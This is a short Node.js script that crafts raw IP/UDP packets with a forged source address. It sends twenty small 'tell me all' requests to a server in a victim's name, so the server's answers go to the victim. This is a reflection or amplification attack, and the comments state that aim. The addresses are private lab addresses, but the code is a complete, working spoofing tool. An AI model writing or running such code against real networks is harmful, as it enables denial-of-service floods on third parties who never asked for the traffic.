// Asks twenty short questions in the victim's name. The answers go to the victim.
import { setTimeout as sleep } from 'node:timers/promises'
import { AF_INET, IPPROTO_RAW, SOCK_RAW, socket } from 'wirebook/socket'

const QUESTIONS = 20
const VICTIM = { address: [10, 0, 0, 3], port: 7777 }
const SERVER = { address: [10, 0, 0, 2], port: 9999 }
const question = Buffer.from('tell me all')

const udp = Buffer.alloc(8) // a checksum of 0 means that there is none (RFC 768)
udp.writeUInt16BE(VICTIM.port, 0)
udp.writeUInt16BE(SERVER.port, 2)
udp.writeUInt16BE(udp.length + question.length, 4)
// The kernel fills in the length and the checksum of the IP header (raw(7)).
const ip = Buffer.from([0x45, 0, 0, 0, 0, 0, 0, 0, 64, 17, 0, 0, ...VICTIM.address, ...SERVER.address])
const datagram = Buffer.concat([ip, udp, question])

using raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW)
for (let n = 0; n < QUESTIONS; n += 1) {
  raw.sendto(datagram, [SERVER.address.join('.'), 0])
  await sleep(5)
}
console.log(`sent ${QUESTIONS} questions of ${question.length} bytes: ${QUESTIONS * question.length} bytes`)
await sleep(200) // until the last answer is there
